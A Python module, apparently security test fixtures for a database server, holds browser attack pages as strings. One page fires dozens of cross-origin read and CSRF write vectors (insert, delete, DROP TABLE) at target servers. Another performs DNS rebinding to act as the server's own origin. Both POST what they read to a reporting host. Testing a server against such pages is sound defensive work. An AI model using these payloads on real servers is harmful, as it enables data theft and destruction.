"""Pages that try whatever a page can try against a server it may not use; each tells what it could read.

``ATTACK`` is one page. It gets its targets (addresses of the server) in its query string, tries every vector on each,
and reports: which vectors ran, and every text that it got to see. Whether anything was changed, only the server knows.
"""

from __future__ import annotations

from typing import Final

#: Statements and rows that would show. The table is called secrets and has the columns id and word.
ATTACK: Final = r"""<!doctype html><meta charset="utf-8"><title>a harmless page</title><body><script>
const given = new URLSearchParams(location.search);
const targets = given.getAll("target"), home = given.get("home"), key = given.get("key");
const ran = [], seen = [], failed = [];
const wait = ms => new Promise(done => setTimeout(done, ms));
const within = (promise, ms) => Promise.race([promise, wait(ms).then(() => { throw new Error("late"); })]);

async function attempt(name, act) {
  ran.push(name);
  try {
    const text = await within(act(), 4000);
    if (text) seen.push([name, String(text).slice(0, 2000)]);
  } catch (error) { failed.push([name, String(error).slice(0, 100)]); }
}
const frame = () => { const made = document.createElement("iframe"); made.name = "f" + Math.random();
  document.body.append(made); return made; };
function element(tag, attributes) {
  return new Promise((done, wrong) => {
    const made = document.createElement(tag);
    made.onload = () => done(made); made.onerror = () => wrong(new Error(tag + " failed"));
    Object.assign(made, attributes);
    document.body.append(made);
  });
}
function form(method, action, kind, fields) {
  const inside = frame(), made = document.createElement("form");
  Object.assign(made, {method, action, enctype: kind, target: inside.name});
  for (const [name, value] of Object.entries(fields)) {
    const input = document.createElement("textarea");
    input.name = name; input.value = value; made.append(input);
  }
  document.body.append(made);
  return new Promise(done => { inside.onload = () => {
    let text = ""; try { text = inside.contentDocument.body.innerText; } catch (error) {} done(text); };
    made.submit(); });
}
const row = '{"id":666,"word":"planted"}';
const changes = [
  ["insert", "command=insert&table=secrets&rows=" + encodeURIComponent(row)],
  ["delete", "command=delete&table=secrets&all=1"],
  ["update", "command=update&table=secrets&all=1&set=" + encodeURIComponent('{"word":"planted"}')],
  ["drop", "command=sql&sql=" + encodeURIComponent("DROP TABLE secrets")],
];
const reads = ["/?command=select&table=secrets", "/?command=select&table=secrets&type=count", "/status", "/sources",
  "/openapi.json", "/metrics", "/slow", "/backup", "/q/words", "/?command=explain&table=secrets"];

async function attack(url) {
  for (const path of reads) {
    const at = url + path;
    await attempt("fetch " + at, async () => (await fetch(at)).text());
    await attempt("fetch with cookies " + at, async () => (await fetch(at, {credentials: "include"})).text());
    await attempt("fetch without cors " + at, async () => (await fetch(at, {mode: "no-cors"})).text());
    await attempt("fetch post " + at, async () => (await fetch(at, {method: "POST"})).text());
    await attempt("frame " + at, async () => {
      const inside = frame(); inside.src = at; await wait(250);
      return inside.contentDocument.body.innerText; });
  }
  const list = url + reads[0];
  await attempt("xhr " + url, () => new Promise((done, wrong) => {
    const asked = new XMLHttpRequest(); asked.open("GET", list);
    asked.onload = () => done(asked.responseText); asked.onerror = () => wrong(new Error("xhr")); asked.send(); }));
  await attempt("script " + url, async () => { await element("script", {src: list}); return "loaded as a script"; });
  await attempt("module " + url, async () => JSON.stringify(await import(list)));
  await attempt("json module " + url, async () => JSON.stringify(await import(list, {with: {type: "json"}})));
  await attempt("style " + url, async () => {
    const made = await element("link", {rel: "stylesheet", href: list});
    return made.sheet && made.sheet.cssRules.length && "has rules"; });
  await attempt("image " + url, async () => { await element("img", {src: list}); return "loaded as an image"; });
  await attempt("object " + url, async () => {
    const made = await element("object", {data: list}); return made.contentDocument.body.innerText; });
  await attempt("worker " + url, () => new Promise((done, wrong) => {
    const code = `try { importScripts(${JSON.stringify(list)}); postMessage("loaded"); }
      catch (error) { postMessage(""); }`;
    const made = new Worker(URL.createObjectURL(new Blob([code])));
    made.onmessage = told => done(told.data); made.onerror = () => wrong(new Error("worker")); }));
  await attempt("events " + url, () => new Promise((done, wrong) => {
    const stream = new EventSource(list);
    stream.onmessage = told => done(told.data); stream.onopen = () => done("opened");
    stream.onerror = () => { stream.close(); wrong(new Error("events")); }; }));
  await attempt("socket " + url, () => new Promise((done, wrong) => {
    const socket = new WebSocket(list.replace("http", "ws"));
    socket.onopen = () => done("opened"); socket.onmessage = told => done(told.data);
    socket.onerror = () => wrong(new Error("socket")); }));
  await attempt("range " + url, async () => (await fetch(list, {headers: {Range: "bytes=0-9"}})).text());
  await attempt("made up key " + url, async () =>
    (await fetch(list, {headers: {Authorization: "Bearer tcsql_x_y"}})).text());
  if (key) await attempt("key " + url, async () =>
    (await fetch(list, {headers: {Authorization: "Bearer " + key}})).text());
  for (const [what, query] of changes) {
    const at = url + "/?" + query, body = query.replace(/^command=\w+&?/, "");
    const json = JSON.stringify(Object.fromEntries(new URLSearchParams(query)));
    await attempt("get " + what + url, async () => (await fetch(at)).text());
    await attempt("get, no cors " + what + url, async () => (await fetch(at, {mode: "no-cors"})).text());
    await attempt("image " + what + url, async () => { await element("img", {src: at}); });
    await attempt("post " + what + url, async () => (await fetch(at, {method: "POST", mode: "no-cors"})).text());
    for (const kind of ["text/plain", "application/x-www-form-urlencoded", "application/json", "application/x-ndjson",
                        "multipart/form-data; boundary=x"]) {
      for (const [named, text] of [["json", json], ["query", query], ["row", row]]) {
        const send = mode => fetch(url + "/", {method: "POST", mode, headers: {"Content-Type": kind}, body: text});
        await attempt(`post ${kind} ${named} ${what} ${url}`, async () => (await send("cors")).text());
        await attempt(`post, no cors ${kind} ${named} ${what} ${url}`, async () => (await send("no-cors")).text());
      }
      await attempt(`row ${kind} ${what} ${url}`, async () => (await fetch(at, {method: "POST", mode: "no-cors",
        headers: {"Content-Type": kind}, body: row})).text());
      await attempt(`beacon ${kind} ${what} ${url}`, async () => {
        navigator.sendBeacon(at, new Blob([body], {type: kind}));
        navigator.sendBeacon(url + "/", new Blob([json], {type: kind})); });
    }
    for (const method of ["PUT", "DELETE", "PATCH"])
      await attempt(method + " " + what + url, async () => (await fetch(at, {method, body: row})).text());
    const fields = Object.fromEntries(new URLSearchParams(query));
    for (const kind of ["application/x-www-form-urlencoded", "text/plain", "multipart/form-data"]) {
      await attempt(`form ${kind} ${what} ${url}`, () => form("post", url + "/", kind, fields));
      await attempt(`form at ${kind} ${what} ${url}`, () => form("post", at, kind, {[row + ' '.repeat(4)]: ""}));
    }
    await attempt(`form json ${what} ${url}`, () => form("post", url + "/", "text/plain",
      {[json.slice(0, -1) + ',"x":"']: '"}'}));
    await attempt(`form get ${what} ${url}`, () => form("get", url + "/", "", fields));
  }
  for (const action of ["verify", "repair", "recopy", "accept"])
    await attempt("source " + action + url, async () =>
      (await fetch(url + "/sources/shop?action=" + action, {method: "POST", mode: "no-cors"})).text());
  await attempt("hint " + url, async () => (await fetch(url + "/?command=hint&source=shop&table=secrets",
    {method: "POST", mode: "no-cors", body: "[1]"})).text());
}
(async () => {
  for (const target of targets) await attack(target);
  await wait(500);  // beacons go by themselves
  await fetch(home + "/report", {method: "POST", mode: "no-cors", body: JSON.stringify({ran, seen, failed})});
})();
</script>"""

#: Loaded from the hostile site's name; asks until the name means the server, then attacks it as its own origin.
REBOUND: Final = r"""<!doctype html><meta charset="utf-8"><body><script>
const home = new URLSearchParams(location.search).get("home");
const tell = what => fetch(home + "/report", {method: "POST", mode: "no-cors", body: JSON.stringify(what)});
(async () => {
  await tell({waiting: location.origin});
  const row = '{"id":666,"word":"planted"}';
  for (let tries = 0; tries < 300; tries++) {
    await new Promise(done => setTimeout(done, 200));
    let first;
    try { first = await (await fetch("/?command=select&table=secrets")).text(); } catch (error) { continue; }
    if (!first) continue;
    const seen = [["select", first]];
    for (const [method, path, body] of [["GET", "/status"], ["GET", "/backup"], ["GET", "/openapi.json"],
        ["GET", "/q/words"], ["POST", "/?command=insert&table=secrets", row],
        ["POST", "/?command=delete&table=secrets&all=1", ""],
        ["POST", "/?command=sql&sql=DROP%20TABLE%20secrets", ""]]) {
      try { seen.push([path, (await (await fetch(path, {method, body})).text()).slice(0, 2000)]); }
      catch (error) { seen.push([path, String(error)]); }
    }
    await tell({seen});
    return;
  }
  await tell({seen: [], late: true});
})();
</script>"""

#: What a page of a listed origin does for a living: published queries, and reads and writes with a key.
HONEST: Final = r"""<!doctype html><meta charset="utf-8"><body><script>
const given = new URLSearchParams(location.search), url = given.get("target"), home = given.get("home");
const asks = JSON.parse(given.get("asks"));
(async () => {
  const found = {};
  for (const [name, path, how] of asks) {
    try {
      const reply = await fetch(url + path, how);
      found[name] = [reply.status, await reply.text()];
    } catch (error) { found[name] = [0, String(error)]; }
  }
  await fetch(home + "/report", {method: "POST", mode: "no-cors", body: JSON.stringify(found)});
})();
</script>"""
